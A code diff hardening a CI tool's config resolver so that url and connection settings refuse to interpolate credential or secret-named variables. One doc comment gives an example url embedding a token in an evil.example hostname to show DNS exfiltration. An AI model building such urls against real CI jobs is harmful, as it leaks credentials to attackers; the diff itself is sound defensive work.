@@ -65,6 +65,7 @@ function resolveUrl(project: Project, section: Section, env: Env): string {
     );
   }
   const ptr = pointerOf(project, section, 'url');
+  refuseSecretRead(project, raw, `${section} url`, ptr);
   const r = interpolateString(raw, env);
   if (!r.ok) throw new ConfigError(r.message, project.locate(ptr), ptr);
   const parsed = parseApiUrl(r.value);
@@ -80,7 +81,7 @@ function resolveUrl(project: Project, section: Section, env: Env): string {
   const allow = (project.spec[section] as { allowInsecureHttp?: boolean } | undefined)?.allowInsecureHttp === true;
   if (url.protocol === 'http:' && !isLoopback(url.hostname) && !allow) {
     throw new ConfigError(
-      `${section} url uses plain http to ${hostShown(raw, url.hostname, project)}: the ${section === 'cloud' ? 'API key' : 'token or key'} would cross the network unencrypted; use https, or set spec.${section}.allowInsecureHttp: true if this network is trusted`,
+      `${section} url uses plain http to ${url.hostname}: the ${section === 'cloud' ? 'API key' : 'token or key'} would cross the network unencrypted; use https, or set spec.${section}.allowInsecureHttp: true if this network is trusted`,
       project.locate(ptr),
       ptr,
     );
@@ -90,7 +91,7 @@ function resolveUrl(project: Project, section: Section, env: Env): string {
   if (!allowed.ok) throw new CliError(allowed.message);
   if (allowed.rules && !hostAllowed(allowed.rules, url)) {
     throw new ConfigError(
-      `${section} url names ${hostShown(raw, url.host, project)}, which ${ALLOWED_HOSTS_VAR} does not list (${listed(allowed.rules)}): steward sends the ${section === 'cloud' ? 'API key' : 'token or key'} only to the hosts that variable lists; nothing was sent`,
+      `${section} url names ${url.host}, which ${ALLOWED_HOSTS_VAR} does not list (${listed(allowed.rules)}): steward sends the ${section === 'cloud' ? 'API key' : 'token or key'} only to the hosts that variable lists; nothing was sent`,
       project.locate(ptr),
       ptr,
     );
@@ -99,15 +100,24 @@ function resolveUrl(project: Project, section: Section, env: Env): string {
 }
 
 /**
- * A url's host for a message, or the url as the file writes it when it reads a credential's variable or one
- * whose name says it holds a secret: the URL parser lowers the case of what it reads (and maps and decodes
- * it), so a token put in the host would pass the output's redaction, which looks for the value as it is, and
- * land in the CI log with the refusal meant to keep it in.
+ * A connection setting may not read a credential's variable nor one whose name says it holds a secret: what
+ * it reads goes into a url, which is looked up in DNS (`https://${STEWARD_OBS_TOKEN}.evil.example` hands the
+ * token to evil.example's name server before any request), sent to proxies and printed in errors, where the
+ * URL parser's lower-casing would also slip it past redaction. A pull request can change steward.yaml; this
+ * holds whatever the job sets.
  */
-function hostShown(raw: string, host: string, project: Project): string {
+function refuseSecretRead(project: Project, raw: string, what: string, ptr: string): void {
   const credentials = new Set(credentialVariables(project.spec).map((n) => n.toUpperCase()));
-  const reads = [...raw.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*)/g)].map((m) => m[1]!);
-  return reads.some((n) => credentials.has(n.toUpperCase()) || secretWord(n) !== undefined) ? `the host of ${raw}` : host;
+  for (const m of raw.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*)/g)) {
+    const name = m[1]!;
+    const why = credentials.has(name.toUpperCase()) ? 'holds a credential' : secretWord(name) ? `is named as a secret's (${secretWord(name)})` : undefined;
+    if (why === undefined) continue;
+    throw new ConfigError(
+      `${what} reads \${${name}}, which ${why}: what a connection setting reads goes into a url, which DNS, proxies and error messages see; write the value, or read a variable that holds only it (like \${STEWARD_OBS_URL})`,
+      project.locate(ptr),
+      ptr,
+    );
+  }
 }
 
 /** This machine: localhost (and *.localhost), 127.0.0.0/8, ::1 (a URL's hostname keeps IPv6 in brackets). */
@@ -178,6 +188,7 @@ function resolvePlain(project: Project, section: Section, key: string, what: str
     );
   }
   const ptr = pointerOf(project, section, key);
+  refuseSecretRead(project, raw, `spec.${section}.${key}`, ptr);
   const r = interpolateString(raw, env);
   if (!r.ok) throw new ConfigError(r.message, project.locate(ptr), ptr);
   return r.value;
